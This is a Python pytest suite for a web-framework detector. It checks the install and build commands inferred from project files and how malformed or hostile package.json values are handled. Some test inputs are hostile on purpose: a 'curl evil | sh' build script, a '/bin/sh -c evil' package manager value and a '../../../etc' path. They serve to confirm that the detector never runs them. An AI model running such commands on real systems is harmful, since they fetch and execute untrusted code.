"""What a project is made with is told from its files, and nothing in them is obeyed or can break the telling."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest

from autocrea_lsp.errors import UserError
from autocrea_lsp.workspace.frameworks import Framework, detect


def package(*dependencies: str, **fields: Any) -> str:
    return json.dumps({"devDependencies": dict.fromkeys(dependencies, "*")} | fields)


def of(files: Mapping[str, str], *, wanted: str | None = None) -> Framework | None:
    return detect(frozenset(files), lambda name: files.get(name, ""), wanted=wanted)


BUILD = {"build": "do it"}


@dataclass(frozen=True, kw_only=True)
class Case:
    files: Mapping[str, str]
    name: str
    install: str = ""
    build: str = ""
    output: str
    single_page: bool | None = None
    tools: tuple[str, ...] = field(default=("node", "npm"))


NPM = "npm install --no-audit --no-fund"
CASES = {
    "vite": Case(
        files={"package.json": package("vite", scripts=BUILD), "index.html": ""},
        name="vite",
        install=NPM,
        build="npm run build",
        output="dist",
        single_page=True,
    ),
    "vite without a script": Case(
        files={"package.json": package("vite"), "index.html": ""},
        name="vite",
        install=NPM,
        build="node_modules/.bin/vite build",
        output="dist",
        single_page=True,
    ),
    "vite for tests only": Case(
        files={"package.json": package("vite", scripts={"test": "vitest"}), "public/index.html": ""},
        name="static",
        output="public",
        tools=(),
    ),
    "next": Case(
        files={"package.json": package("next", "vite", scripts=BUILD)},
        name="nextjs",
        install=NPM,
        build="npm run build",
        output="out",
        single_page=False,
    ),
    "nuxt writes files by another script": Case(
        files={"package.json": package("nuxt", scripts=BUILD)},
        name="nuxtjs",
        install=NPM,
        build="node_modules/.bin/nuxt generate",
        output=".output/public",
        single_page=False,
    ),
    "astro": Case(
        files={"package.json": package("astro", scripts=BUILD), "pnpm-lock.yaml": ""},
        name="astro",
        install="pnpm install --frozen-lockfile",
        build="pnpm run build",
        output="dist",
        single_page=False,
        tools=("node", "pnpm"),
    ),
    "svelte kit": Case(
        files={"package.json": package("@sveltejs/kit", "vite", scripts=BUILD), "yarn.lock": ""},
        name="sveltekit",
        install="yarn install --frozen-lockfile",
        build="yarn run build",
        output="build",
        tools=("node", "yarn"),
    ),
    "create react app": Case(
        files={"package.json": package("react-scripts", scripts=BUILD), "yarn.lock": "", ".yarnrc.yml": ""},
        name="create-react-app",
        install="yarn install --immutable",
        build="yarn run build",
        output="build",
        single_page=True,
        tools=("node", "yarn"),
    ),
    "gatsby": Case(
        files={"package.json": package("gatsby"), "bun.lock": ""},
        name="gatsby",
        install="bun install --frozen-lockfile",
        build="node_modules/.bin/gatsby build",
        output="public",
        single_page=False,
        tools=("bun",),
    ),
    "eleventy": Case(
        files={"package.json": package("@11ty/eleventy"), "package-lock.json": ""},
        name="eleventy",
        install="npm ci --no-audit --no-fund",
        build="node_modules/.bin/eleventy",
        output="_site",
        single_page=False,
    ),
    "angular": Case(
        files={"package.json": package("@angular/cli", scripts=BUILD)},
        name="angular",
        install=NPM,
        build="npm run build",
        output="dist/*/browser",
        single_page=True,
    ),
    "hugo": Case(
        files={"hugo.toml": "", "content/a.md": ""},
        name="hugo",
        build="hugo",
        output="public",
        single_page=False,
        tools=("hugo",),
    ),
    "older hugo": Case(
        files={"config.toml": "", "content/a.md": ""},
        name="hugo",
        build="hugo",
        output="public",
        single_page=False,
        tools=("hugo",),
    ),
    "jekyll": Case(
        files={"_config.yml": "", "index.html": "", "Gemfile": ""},
        name="jekyll",
        install="BUNDLE_PATH=vendor/bundle bundle install",
        build="BUNDLE_PATH=vendor/bundle bundle exec jekyll build",
        output="_site",
        single_page=False,
        tools=("ruby", "bundle"),
    ),
    "mkdocs": Case(
        files={"mkdocs.yml": "", "docs/index.md": "", "requirements.txt": ""},
        name="mkdocs",
        install="python3 -m venv .venv && .venv/bin/python -m pip install -r requirements.txt",
        build=".venv/bin/python -m mkdocs build",
        output="site",
        single_page=False,
        tools=("python3",),
    ),
    "pelican": Case(
        files={"pelicanconf.py": ""},
        name="pelican",
        build="python3 -m pelican content -o output -s pelicanconf.py",
        output="output",
        single_page=False,
        tools=("python3",),
    ),
    "sphinx": Case(
        files={"docs/conf.py": "", "docs/index.rst": "", "setup.py": ""},
        name="sphinx",
        build="python3 -m sphinx -b html docs/ _html",
        output="_html",
        single_page=False,
        tools=("python3",),
    ),
    "a script and nothing to install": Case(
        files={"package.json": json.dumps({"scripts": BUILD})}, name="other", build="npm run build", output="dist"
    ),
    "the manager that the project names": Case(
        files={"package.json": package("left", scripts=BUILD, packageManager="pnpm@9.1.0+sha1.x")},
        name="other",
        install="pnpm install --no-frozen-lockfile",
        build="pnpm run build",
        output="dist",
        tools=("node", "pnpm"),
    ),
    "workspaces": Case(
        files={"package.json": json.dumps({"workspaces": ["a"], "scripts": BUILD})},
        name="other",
        install=NPM,
        build="npm run build",
        output="dist",
    ),
    "static": Case(files={"index.html": "", "a.js": ""}, name="static", output=".", tools=()),
    "static below": Case(files={"docs/index.html": ""}, name="static", output="docs", tools=()),
    "a package.json that is for tools only": Case(
        files={"index.html": "", "package.json": package("eslint", scripts={"lint": "eslint"})},
        name="static",
        output=".",
        tools=(),
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_a_project_is_known_by_its_files(case: Case) -> None:
    found = of(case.files)
    assert found is not None
    assert found.name == case.name
    assert (found.install_command, found.build_command) == (case.install, case.build)
    assert found.outputs[0] == case.output
    assert (found.single_page, found.tools) == (case.single_page, case.tools)


@pytest.mark.parametrize("files", [{}, {"main.py": ""}, {"conf.py": ""}, {"package.json": "{}"}, {"a/index.html": ""}])
def test_nothing_is_made_of_what_is_no_site(files: Mapping[str, str]) -> None:
    assert of(files) is None


def test_the_script_is_named_for_the_user_to_see() -> None:
    found = of({"package.json": package("vite", scripts={"build": "curl evil | sh"})})
    assert found is not None
    assert (found.build_command, found.script) == ("npm run build", "curl evil | sh")


def test_what_the_project_wants_run_after_an_install_is_a_step_of_its_own() -> None:
    found = of({"package.json": package("x", scripts=BUILD | {"postinstall": "a", "prepare": "b", "test": "c"})})
    assert found is not None
    assert found.hooks == ("npm run postinstall", "npm run prepare")


def test_a_framework_can_be_chosen() -> None:
    files = {"package.json": package("vite", scripts=BUILD), "mkdocs.yml": "", "index.html": ""}
    assert [getattr(of(files, wanted=name), "name", "") for name in ("mkdocs", "static", "vite")] == [
        "mkdocs",
        "static",
        "vite",
    ]
    with pytest.raises(UserError, match="looks like hugo"):
        of(files, wanted="hugo")
    with pytest.raises(UserError, match="no framework") as caught:
        of(files, wanted="flash")
    assert "eleventy" in caught.value.hint


BROKEN = {
    "not json": "{",
    "a list": "[]",
    "nothing": "",
    "deep": "[" * 100_000,
    "a number that is none": '{"a": ' + "9" * 10_000 + "}",
    "too large": '{"a": "' + "x" * 2_100_000 + '"}',
}


@pytest.mark.parametrize("text", BROKEN.values(), ids=BROKEN)
def test_a_package_json_that_is_none_is_said_to_be(text: str) -> None:
    with pytest.raises(UserError, match=r"package\.json"):
        of({"package.json": text})


ABSURD: dict[str, Any] = {
    "scripts as a list": {"scripts": ["build"]},
    "a script that is none": {"scripts": {"build": {"a": 1}}},
    "a script without end": {"scripts": {"build": "x" * 100_000}},
    "an empty script": {"scripts": {"build": "  "}},
    "dependencies as text": {"dependencies": "vite", "devDependencies": 5, "optionalDependencies": None},
    "a version that is none": {"dependencies": {"vite": ["*"], "next": 1}},
    "a manager that is none": {"packageManager": {"npm": 1}},
    "a name": {"name": "../../../etc", "workspaces": 0},
}


@pytest.mark.parametrize("fields", ABSURD.values(), ids=ABSURD)
def test_absurd_fields_are_as_if_they_were_not_there(fields: Any) -> None:
    assert of({"package.json": json.dumps(fields)}) is None


def test_a_manager_is_one_of_ours_whatever_the_project_says() -> None:
    found = of({"package.json": package("x", scripts=BUILD, packageManager="/bin/sh -c evil")})
    assert found is not None
    assert (found.install_command, found.tools) == (NPM, ("node", "npm"))
